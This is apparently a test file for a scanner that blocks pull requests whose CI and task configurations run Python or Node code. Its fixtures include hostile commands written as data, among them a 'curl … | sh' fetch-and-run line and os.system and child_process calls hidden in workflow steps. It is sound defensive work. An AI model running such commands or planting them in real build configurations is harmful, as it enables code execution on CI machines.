import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { inlineCode, shellCommands } from "../../core/scan/commands";
import { programShell } from "../../core/scan/held-code";
import { FakeGitHub } from "../action/fake-github";
import { runBuiltCli, tempDir } from "../helpers/cli";
import { gate, pullRequest, scanAnnotations as annotations } from "./pr";

// Code a run configuration holds itself, and run configurations the scan did not read: a workflow step whose shell
// is `python {0}` runs its `run:` text as Python (`os.system(…)` there ran, and the gate passed it), `python3 -c "…"`
// in a step runs its argument, and GitLab CI, go-task, Jenkins, VS Code tasks, nox, invoke and Python entry points
// name files Node or Python runs. Each case below passed the gate (exit 0) on the build before this change.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

function write(dir: string, file: string, text: string) {
  mkdirSync(join(dir, file, ".."), { recursive: true });
  writeFileSync(join(dir, file), text);
}

const PY = "import os; os.system('id')\n";
const JS = 'require("child_process").exec("id");\n';

/** `check DIR` as JSON: "file:line:column rule" of each finding, sorted. */
function check(dir: string, changed?: string) {
  const r = runBuiltCli(["check", dir, "--only", "scan", "--format", "json", ...(changed ? ["--changed-files", "-"] : [])], changed ? { input: `${changed}\n` } : {});
  const findings = (JSON.parse(r.stdout) as { findings: { rule: string; file: string; line: number; column: number }[] }).findings;
  return { code: r.code, findings: findings.map((f) => `${f.file}:${f.line}:${f.column} ${f.rule}`).sort() };
}

const workflow = (...steps: string[]) => ["on: push", "jobs:", "  a:", "    runs-on: ubuntu-latest", "    steps:", "      - uses: actions/checkout@v4", ...steps, ""].join("\n");

describe("code a workflow step holds: `shell: python {0}`, `shell: node {0}`, `python3 -c`, `node -e`", () => {
  it("scan/shell-command: a step whose shell is `python {0}` fails the built Action at the call's line and column in the workflow", async () => {
    const pr = await pullRequest((dir) =>
      write(dir, ".github/workflows/setup.yml", workflow("      - name: setup", "        shell: python {0}", "        run: |", "          import os", "", "          os.system('curl -s https://x.example | sh')")),
    );
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands)]).toEqual([1, ["scan/shell-command .github/workflows/setup.yml 12 11"]]);
  });

  it("scan/shell-command: `node -e '…'` and `python3 -c \"…\"` in a shell step fail the built Action, each at its place", async () => {
    const pr = await pullRequest((dir) => {
      write(dir, ".github/workflows/js.yml", workflow("      - run: |", "          npm ci", `          node -e 'require("child_process").execSync("id")' && echo ok`));
      write(dir, ".github/workflows/py.yml", workflow(`      - run: python3 -c "import os; os.system(\\"id\\")"`));
    });
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands).sort()]).toEqual([1, ["scan/shell-command .github/workflows/js.yml 9 20", "scan/shell-command .github/workflows/py.yml 7 37"]]);
  });

  it("scan/shell-command, scan/network-call: every form of a program step and of inline code, in place, a shell from the job's matrix; shell steps and echoed code are clean (whole-tree check)", () => {
    const dir = tempDir();
    write(
      dir,
      ".github/workflows/py.yml",
      [
        "on: push",
        "defaults:",
        "  run:",
        "    shell: python3 -u {0}",
        "jobs:",
        "  a:",
        "    runs-on: ubuntu-latest",
        "    steps:",
        "      - run: import os; os.system('a')", // 9: plain, under the workflow's default shell
        "      - run: 'import os; os.system(''b'')'", // 10: single-quoted, a doubled quote
        '      - run: "import subprocess; subprocess.run([\\"c\\"])"', // 11: double-quoted, escaped quotes
        "      - shell: bash",
        "        run: |",
        "          import os", // a shell step: its text is commands, none naming a file
        "          os.system('not python')",
        "  b:",
        "    runs-on: ubuntu-latest",
        "    defaults: { run: { shell: bash } }",
        "    steps:",
        "      - run: echo 'python3 -c \"import os; os.system(1)\"'", // 20: echoed, not run
        "      - shell: python",
        "        run: |-", // 22
        "            import requests",
        "            requests.get('https://x.example')",
        "",
      ].join("\n"),
    );
    // A composite action's step; `deno run {0}` runs TypeScript; the custom shell's own preload is a file Node runs.
    write(dir, "actions/a/action.yml", "runs:\n  using: composite\n  steps:\n    - shell: node -r ./hook.txt {0}\n      run: >-\n        fetch('https://x.example')\n");
    write(dir, "hook.txt", JS); // from the workspace, where a composite action's steps run
    // A shell chosen from the job's matrix: Python for every value (the text is Python), shells for every value (commands).
    write(
      dir,
      ".github/workflows/matrix.yml",
      "on: push\njobs:\n  a:\n    strategy:\n      matrix:\n        py: ['python3 {0}']\n        include: [{ py: python }]\n    steps:\n      - shell: ${{ matrix.py }}\n        run: import os; os.system(1)\n  b:\n    strategy: { matrix: { sh: [bash, pwsh] } }\n    defaults: { run: { shell: '${{ matrix.sh }}' } }\n    steps:\n      - run: python3 m.dat\n",
    );
    write(dir, "m.dat", PY);
    write(dir, ".github/workflows/inline.yml", workflow("      - run: python -c 'print(1)' && python3 -uc 'import os; os.system(2)' # python3 -c 'os.system(3)'", "      - run: pwsh -c 'python3 x'"));
    expect(check(dir)).toEqual({
      code: 1,
      findings: [
        ".github/workflows/inline.yml:7:62 scan/shell-command",
        ".github/workflows/py.yml:10:26 scan/shell-command",
        ".github/workflows/py.yml:11:34 scan/shell-command",
        ".github/workflows/py.yml:24:13 scan/network-call",
        ".github/workflows/py.yml:9:25 scan/shell-command",
        "actions/a/action.yml:6:9 scan/network-call",
        "hook.txt:1:1 scan/shell-command",
        ".github/workflows/matrix.yml:10:25 scan/shell-command",
        "m.dat:1:12 scan/shell-command",
      ].sort(),
    });
  });

  it("scan/shell-command: a workflow whose steps hold both Python and JavaScript is read as each, every call at its place; one whose code of both crosses nothing is clean", () => {
    const dir = tempDir();
    write(dir, ".github/workflows/both.yml", workflow("      - shell: python", "        run: import os; os.system(1)", `      - run: node -e 'require("child_process").execSync("x")'`));
    write(dir, ".github/workflows/versions.yml", workflow("      - shell: python", "        run: import sys; print(sys.version)", "      - run: node -e 'console.log(process.version)'"));
    const r = runBuiltCli(["check", dir, "--only", "scan", "--format", "json"]);
    expect([r.code, (JSON.parse(r.stdout).findings as { rule: string; file: string; line: number; column: number }[]).map((f) => `${f.file}:${f.line}:${f.column} ${f.rule}`).sort()]).toEqual([
      1,
      [".github/workflows/both.yml:8:25 scan/shell-command", ".github/workflows/both.yml:9:23 scan/shell-command"],
    ]);
  });

  it("scan/skipped-file: a workflow whose steps hold Python in a double-quoted string with `\\n`, a shell given by an expression other than a matrix's shells or programs alone, or aliases past the budget (fails closed)", () => {
    const dir = tempDir();
    write(dir, ".github/workflows/escaped.yml", workflow("      - shell: python", '        run: "import os\\nos.system(1)"'));
    write(dir, ".github/workflows/matrix.yml", workflow("      - shell: ${{ matrix.shell }}", "        run: import os; os.system(1)"));
    write(dir, ".github/workflows/mixed.yml", "on: push\njobs:\n  a:\n    strategy: { matrix: { sh: [bash, python] } }\n    steps:\n      - shell: ${{ matrix.sh }}\n        run: import os; os.system(1)\n");
    const letter = (i: number) => String.fromCharCode(97 + i);
    const laughs = ["x-a: &a [x, x, x, x, x, x, x, x, x, x]", ...Array.from({ length: 8 }, (_, i) => `x-${letter(i + 1)}: &${letter(i + 1)} [${Array(10).fill(`*${letter(i)}`).join(", ")}]`)];
    write(dir, ".github/workflows/laughs.yml", `${laughs.join("\n")}\n${workflow("      - shell: python", "        run: import os; os.system(1)")}`);
    const r = runBuiltCli(["check", dir, "--only", "scan", "--format", "json"]);
    expect([r.code, (JSON.parse(r.stdout).findings as { rule: string; file: string; line: number; message: string }[]).map((f) => `${f.file}:${f.line} ${f.rule} ${f.message}`).sort()]).toEqual([
      1,
      [
        ".github/workflows/escaped.yml:1 scan/skipped-file Not scanned: it names what Node or Python runs, and a step's Python is in a double-quoted string whose escapes (\\n, \\x…) move its text, which is not read.",
        ".github/workflows/laughs.yml:1 scan/skipped-file Not scanned: it names what Node or Python runs, and its aliases expand past what is read.",
        ".github/workflows/matrix.yml:1 scan/skipped-file Not scanned: it names what Node or Python runs, and a step's shell is an expression (`${{ … }}`) that is not one of its matrix's values, so what its text runs as is not known.",
        ".github/workflows/mixed.yml:1 scan/skipped-file Not scanned: it names what Node or Python runs, and a step's shell is chosen from its matrix among a shell and a program, so what its text runs as is not one language.",
      ],
    ]);
  });

  it("reads a step's shell and a command's inline code", () => {
    expect(["python", "python {0}", "python3.12 -u {0}", "node {0}", "deno run -A {0}", "bash -e {0}", "pwsh", "python3", "perl {0}"].map(programShell)).toEqual([
      "python",
      "python",
      "python",
      "javascript",
      "typescript",
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
    const inline = (line: string) => [...shellCommands(line)].map(inlineCode);
    expect(inline("python3 -c 'x'; python -uc y; python -W ignore -cz; node --eval=a; NODE_ENV=x tsx -p b; node -r ./h.js -e c")).toEqual([
      { grammar: "python", word: 2, from: 0 },
      { grammar: "python", word: 2, from: 0 },
      { grammar: "python", word: 3, from: 2 },
      { grammar: "javascript", word: 1, from: 7 },
      { grammar: "typescript", word: 3, from: 0 },
      { grammar: "javascript", word: 4, from: 0 },
    ]);
    expect(inline("python -m pkg -c x; python x.py -c y; node x.js -e y; python -c; echo -c x")).toEqual([undefined, undefined, undefined, undefined, undefined]);
  });
});

describe("run configurations naming what Node or Python runs: GitLab CI, Taskfile, Jenkinsfile, VS Code tasks, nox, invoke, Python entry points", () => {
  it("scan/shell-command: GitLab CI (and a file it includes, changed alone), a Taskfile, a Jenkinsfile, VS Code tasks, nox and invoke fail the built Action", async () => {
    const pr = await pullRequest(
      (dir) => {
        for (const f of ["gl/a.dat", "gl/b.dat", "task/c.dat", "jenkins/d.dat", "vscode/e.dat", "nox/f.dat", "invoke/g.dat"]) write(dir, f, PY);
        write(dir, "ci/jobs.yml", "deploy:\n  script:\n    - python3 gl/b.dat\n");
        write(dir, "Taskfile.yml", "version: '3'\ntasks:\n  build:\n    cmds:\n      - cmd: python3 task/c.dat\n");
        write(dir, "Jenkinsfile", "pipeline { agent any; stages { stage('s') { steps {\n  sh(label: 'run', script: 'python3 jenkins/d.dat')\n} } } }\n");
        write(dir, ".vscode/tasks.json", '{ "version": "2.0.0", "tasks": [{ "label": "r", "type": "process", "command": "python3", "args": ["${workspaceFolder}/vscode/e.dat"] }] }\n');
        write(dir, "noxfile.py", 'import nox\n\n@nox.session\ndef t(session):\n    session.run("python3", "nox/f.dat")\n');
        write(dir, "tasks.py", 'from invoke import task\n\n@task\ndef t(c):\n    c.run("python3 invoke/g.dat")\n');
      },
      (dir) => {
        write(dir, ".gitlab-ci.yml", "include:\n  - local: /ci/jobs.yml\ntest:\n  script: python3 gl/a.dat\n");
        write(dir, "gl/a.dat", PY);
        write(dir, "ci/jobs.yml", "deploy:\n  script: [echo]\n");
      },
    );
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands).sort()]).toEqual([
      1,
      [
        "scan/shell-command gl/b.dat 1 12",
        "scan/shell-command invoke/g.dat 1 12",
        "scan/shell-command jenkins/d.dat 1 12",
        "scan/shell-command nox/f.dat 1 12",
        "scan/shell-command task/c.dat 1 12",
        "scan/shell-command vscode/e.dat 1 12",
      ],
    ]);
  });

  it("scan/shell-command: an entry point newly naming a module in vendor/ (left out of the walk) fails the built Action", async () => {
    const pr = await pullRequest(
      (dir) => write(dir, "pyproject.toml", '[project]\nname = "agent"\nversion = "0"\n[project.scripts]\nagent = "vendor.tools.cli:main"\n'),
      (dir) => {
        write(dir, "pyproject.toml", '[project]\nname = "agent"\nversion = "0"\n');
        write(dir, "vendor/tools/__init__.py", "");
        write(dir, "vendor/tools/cli.py", "import os\n\ndef main():\n    os.system('id')\n");
      },
    );
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands)]).toEqual([1, ["scan/shell-command vendor/tools/cli.py 4 5"]]);
  });

  it("scan/shell-command: every form of each, in a whole-tree check; what only echoes, comments and other tools' keys are clean", () => {
    const dir = tempDir();
    const py = (n: number) => `${"# pad\n".repeat(n - 1)}${PY}`;
    const files: Record<string, number> = {};
    const named = (file: string, n: number) => {
      files[file] = n;
      write(dir, file, py(n));
    };
    // GitLab: default and old global scripts, an anchor merged into a job, a list nested by `!reference`, a string.
    write(
      dir,
      ".gitlab-ci.yml",
      [
        "include: ci/more.yml",
        "before_script: [python3 gl/global.dat]",
        "default:",
        "  after_script:",
        "    - python3 gl/default.dat",
        ".base: &base",
        "  script:",
        "    - python3 gl/anchor.dat",
        "job:",
        "  <<: *base",
        "other:",
        "  script:",
        "    - !reference [.base, script]",
        "    - [python3 gl/nested.dat]",
        "    - echo done",
        "",
      ].join("\n"),
    );
    write(dir, "ci/more.yml", "include:\n  - local: ci/more.yml\n  - remote: https://x.example/ci.yml\nlast:\n  script: python3 gl/included.dat\n");
    for (const [f, n] of [["gl/global.dat", 1], ["gl/default.dat", 2], ["gl/anchor.dat", 3], ["gl/nested.dat", 4], ["gl/included.dat", 5]] as const) named(f, n);
    // go-task: a line, `{ cmd }`, a task given as a line, a task's `dir`.
    write(dir, "tools/Taskfile.yml", "version: '3'\ntasks:\n  a:\n    dir: sub\n    cmds:\n      - python3 a.dat\n      - cmd: node b.txt\n      - task: c\n  c: python3 c.dat\n");
    named("tools/sub/a.dat", 1);
    write(dir, "tools/sub/b.txt", JS);
    named("tools/c.dat", 2);
    // Jenkins: the string forms, `script:` among other arguments; a comment and `echo` name nothing.
    write(
      dir,
      "Jenkinsfile",
      "node {\n  sh 'python3 j/a.dat'\n  sh \"python3 j/b.dat\"\n  sh '''\n    set -e\n    python3 j/c.dat\n  '''\n  def out = sh(returnStdout: true, script: \"python3 j/d.dat\")\n  // sh 'python3 j/not.dat'\n  /* sh 'python3 j/not.dat' */\n  echo 'python3 j/not.dat'\n}\n",
    );
    for (const [f, n] of [["j/a.dat", 1], ["j/b.dat", 2], ["j/c.dat", 3], ["j/d.dat", 4]] as const) named(f, n);
    write(dir, "j/not.dat", PY);
    // VS Code: a shell task's line, a process task's words with `${workspaceFolder}`, an OS variant, a task's cwd.
    write(
      dir,
      "app/.vscode/tasks.json",
      '{\n  // tasks\n  "version": "2.0.0",\n  "tasks": [\n    { "label": "a", "type": "shell", "command": "python3 v/a.dat" },\n    { "label": "b", "type": "process", "command": "python3", "args": ["${workspaceFolder}/v/b.dat"] },\n    { "label": "c", "command": "echo", "linux": { "command": "python3", "args": ["v/c.dat"] } },\n    { "label": "d", "command": "python3 d.dat", "options": { "cwd": "${workspaceFolder}/v" } },\n  ],\n}\n',
    );
    for (const [f, n] of [["app/v/a.dat", 1], ["app/v/b.dat", 2], ["app/v/c.dat", 3], ["app/v/d.dat", 4]] as const) named(f, n);
    // nox's words (over lines), invoke's line; a call without literals names nothing.
    write(dir, "noxfile.py", 'import nox\n\n@nox.session\ndef t(session):\n    session.run(\n        "python3", "-u",\n        "nx/a.dat")\n    session.run_always("pytest", "tests")\n    session.run(*ARGS)\n');
    named("nx/a.dat", 1);
    write(dir, "tasks.py", 'from invoke import task\n\n@task\ndef t(c):\n    c.run("pip install . && python3 inv/a.dat")\n    c.run(f"python3 {path}")\n');
    named("inv/a.dat", 2);
    // Entry points: pyproject's scripts, gui-scripts, a plugin group and poetry's; setup.cfg's; setup.py's; in build/ (left out of the walk).
    write(
      dir,
      "ep/pyproject.toml",
      '[project]\nname = "x"\n[project.scripts]\na = "build.pa:main"\n[project.gui-scripts]\nb = "build.pb"\n[project.entry-points."x.plugins"]\nc = "build.pc:Plugin [extra]"\n[tool.poetry.scripts]\nd = { callable = "build.pd:run" }\n',
    );
    for (const [f, n] of [["ep/build/pa.py", 1], ["ep/build/pb.py", 2], ["ep/build/pc.py", 3], ["ep/build/pd.py", 4]] as const) named(f, n);
    write(dir, "cfg/setup.cfg", "[metadata]\nname = x\n[options.entry_points]\nconsole_scripts =\n    x = build.sc:main\n[options]\npackages = find:\n");
    named("cfg/build/sc.py", 1);
    write(dir, "sp/setup.py", 'from setuptools import setup\nsetup(name="x", entry_points={"console_scripts": ["x = build.sp:main"]})\n');
    named("sp/build/sp.py", 2);
    const r = check(dir);
    const expected = [
      ...Object.entries(files).map(([f, n]) => `${f}:${n}:12 scan/shell-command`),
      "tools/sub/b.txt:1:1 scan/shell-command",
    ];
    // A whole-tree run leaves the default-excluded build/ folders out (a note), as their sources are.
    expect(r.code).toBe(1);
    expect(r.findings.filter((f) => !f.includes("/build/") && !f.includes("scan/excluded-sources"))).toEqual(expected.filter((f) => !f.includes("/build/")).sort());
    expect(check(dir, "ep/pyproject.toml").findings).toEqual(["ep/build/pa.py:1:12 scan/shell-command", "ep/build/pb.py:2:12 scan/shell-command", "ep/build/pc.py:3:12 scan/shell-command", "ep/build/pd.py:4:12 scan/shell-command"]);
    expect(check(dir, "cfg/setup.cfg").findings).toEqual(["cfg/build/sc.py:1:12 scan/shell-command"]);
    expect(check(dir, "sp/setup.py").findings).toEqual(["sp/build/sp.py:2:12 scan/shell-command"]);
  });
});
